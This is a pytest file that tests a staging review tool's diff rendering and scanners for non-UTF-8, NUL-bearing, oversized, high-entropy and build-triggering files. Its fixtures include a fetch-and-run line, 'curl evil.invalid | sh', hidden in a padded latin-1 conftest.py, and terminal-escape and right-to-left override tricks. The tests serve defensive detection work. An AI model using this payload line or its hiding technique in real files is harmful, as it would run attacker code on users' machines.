"""The review shows every byte the scanners judged: encodings, sizes, files that run code."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from orchestrator.config.models import OutboxLimits
from orchestrator.staging import (
    SENSITIVE_PATHS,
    ChangeStore,
    ContentScanner,
    SensitivePathScanner,
    SizeScanner,
    TextCheck,
    render_diff,
    run_scanners,
    scanners_for,
)
from orchestrator.staging.scanners import sensitive_pattern
from tests.unit.test_staging_review import change_of

BIG = OutboxLimits(size=16 << 20, max_files=10, max_file_size=8 << 20)
#: The attack: a latin-1 conftest.py, valid UTF-8 for its first 64 KiB.
PAYLOAD = b"import os; os.system('curl evil.invalid | sh')  # PAYLOAD-LINE\n"
CONFTEST = (
    b"# -*- coding: latin-1 -*-\n"
    + b'"""' + b"Harmless documentation.\n" * 3000 + b'"""\n'
    + b"NAME = 'caf\xe9'\n"
    + PAYLOAD
)  # fmt: skip


@pytest.fixture
def store(tmp_path: Path) -> ChangeStore:
    return ChangeStore(tmp_path / "changes")


def chunks(data: bytes, size: int) -> list[bytes]:
    return [data[i : i + size] for i in range(0, len(data), size)]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64 << 10])
def test_text_check_finds_the_first_fault_whatever_the_chunks(size: int) -> None:
    text = "naïve \u2013 ünïcödé 🙂 text\n".encode() * (5000 if size > 100 else 200)
    clean = TextCheck.of(chunks(text, size))
    assert (clean.nul, clean.invalid) == (None, None)
    bad = TextCheck.of(chunks(text + b"caf\xe9" + text + b"\0", size))
    assert bad.invalid == len(text) + 3
    assert bad.nul == 2 * len(text) + 4
    cut = TextCheck.of(chunks(text + "🙂".encode()[:3], size))  # unfinished at the end
    assert (cut.nul, cut.invalid) == (None, len(text))


def test_a_conftest_not_utf8_past_64_kib_is_shown_whole_and_flagged(
    store: ChangeStore, tmp_path: Path
) -> None:
    assert len(CONFTEST) > 70_000 and CONFTEST[: 64 << 10].decode("utf-8")
    change = change_of(store, tmp_path, {"tests/conftest.py": CONFTEST}, limits=BIG)
    text = render_diff(change, store, tmp_path / "repo", color=False)
    assert "+" + PAYLOAD.decode().rstrip("\n") in text.splitlines()
    assert "+NAME = 'caf\\xe9'" in text.splitlines()
    assert "+ now:" not in text
    results = {r.name: r for r in run_scanners(change, store, scanners_for(limits=BIG))}
    offset = CONFTEST.index(b"\xe9")
    assert [(f.path, f.message.split(":")[0]) for f in results["binary"].findings] == [
        ("tests/conftest.py", f"not UTF-8 text from byte {offset}")
    ]
    assert [f.path for f in results["sensitive-paths"].findings] == ["tests/conftest.py"]


def test_terminal_tricks_in_text_that_is_not_utf8_are_escaped(
    store: ChangeStore, tmp_path: Path
) -> None:
    hostile = b"ok\n\xff\x1b[2J\x1b]8;;http://x\x07\rfake\xe2\x80\xae line\x9b31m\n"
    change = change_of(store, tmp_path, {"notes.md": hostile})
    for color in (False, True):
        shown = re.sub(
            r"\x1b\[(?:0|1|31|32|33|36)m", "", render_diff(change, store, None, color=color)
        )
        assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown
        assert "\u202e" not in shown and "\x9b" not in shown
        assert "+\\xff\\x1b[2J\\x1b]8;;http://x\\x07\\rfake\\u202e line\\x9b31m" in shown


def test_a_file_with_a_nul_is_summarised_and_flagged_wherever_the_nul_is(
    store: ChangeStore, tmp_path: Path
) -> None:
    late = b"text line\n" * 10_000 + b"\0tail\n"
    change = change_of(store, tmp_path, {"a.txt": late}, limits=BIG)
    assert "+ now: text, 100006 bytes, sha256 " in render_diff(change, store, None, color=False)
    [finding] = ContentScanner().scan(change, store).findings
    assert finding.message == "binary content from byte 100000"


def test_text_too_large_to_show_is_flagged(store: ChangeStore, tmp_path: Path) -> None:
    huge = b"harmless line\n" * 80_000 + PAYLOAD  # over 1 MiB
    change = change_of(store, tmp_path, {"big.md": huge, "small.md": b"s\n"}, limits=BIG)
    text = render_diff(change, store, None, color=False)
    assert "PAYLOAD-LINE" not in text and f"+ now: text, {len(huge)} bytes" in text
    [finding] = SizeScanner(max_file_size=BIG.max_file_size).scan(change, store).findings
    assert finding.path == "big.md"
    assert finding.message.startswith(f"{len(huge)} bytes, over the {1 << 20} the diff shows")


def test_high_entropy_past_the_first_window_is_flagged(store: ChangeStore, tmp_path: Path) -> None:
    import base64

    data = b"plain words here\n" * 8000 + base64.b64encode(os.urandom(200_000))
    change = change_of(store, tmp_path, {"notes.txt": data}, limits=BIG)
    [finding] = ContentScanner().scan(change, store).findings
    assert finding.message.startswith("high-entropy text (") and " from byte " in finding.message


def test_the_new_file_is_shown_whole_when_the_current_one_cannot_be(
    store: ChangeStore, tmp_path: Path
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "data.md").write_bytes(b"old line\n" * 200_000)  # the current file: too large
    (repo / "blob.md").write_bytes(b"\0old binary")
    change = change_of(
        store, tmp_path, {"data.md": b"short\n" + PAYLOAD, "blob.md": b"now text\n"}, base=repo
    )
    text = render_diff(change, store, repo, color=False)
    assert "- was: text, 1800000 bytes" in text
    assert "+" + PAYLOAD.decode().rstrip("\n") in text.splitlines()
    assert "+now text" in text.splitlines()
    assert text.count("the current file is not shown: every line below is the new file") == 2


@pytest.mark.parametrize(
    "path",
    [
        "conftest.py", "tests/conftest.py", "Makefile", "src/GNUmakefile", "rules.mk",
        "setup.py", "setup.cfg", "pyproject.toml", "pkg/pyproject.toml", "package.json",
        "web/package.json", "build.rs", "crates/x/build.rs", ".github/workflows/ci.yml",
        ".gitlab-ci.yml", "Dockerfile", "docker/Dockerfile", "Dockerfile.dev", "tox.ini",
        "noxfile.py", ".githooks/pre-commit", ".vscode/tasks.json", "sub/.gitattributes",
        "MAKEFILE",
    ],
)  # fmt: skip
def test_files_that_run_at_the_next_build_test_or_ci_run_are_sensitive(path: str) -> None:
    assert sensitive_pattern(SENSITIVE_PATHS).search(path), path


@pytest.mark.parametrize(
    "path",
    ["report.md", "my_conftest.py", "docs/makefile.md", "x/.github/notes.md", "hooksy/a.md"],
)
def test_ordinary_results_are_not_sensitive(path: str) -> None:
    assert not sensitive_pattern(SENSITIVE_PATHS).search(path), path


def test_the_project_adds_sensitive_patterns(store: ChangeStore, tmp_path: Path) -> None:
    files = {"tools/gen.sh": b"echo\n", "ci/deploy/run.yml": b"x\n", "notes.md": b"n\n"}
    change = change_of(store, tmp_path, files)
    assert SensitivePathScanner().scan(change, store).ok
    [*_, scanner] = scanners_for(sensitive=["tools/*.sh", "ci/**"])
    assert {f.path for f in scanner.scan(change, store).findings} == {
        "tools/gen.sh",
        "ci/deploy/run.yml",
    }
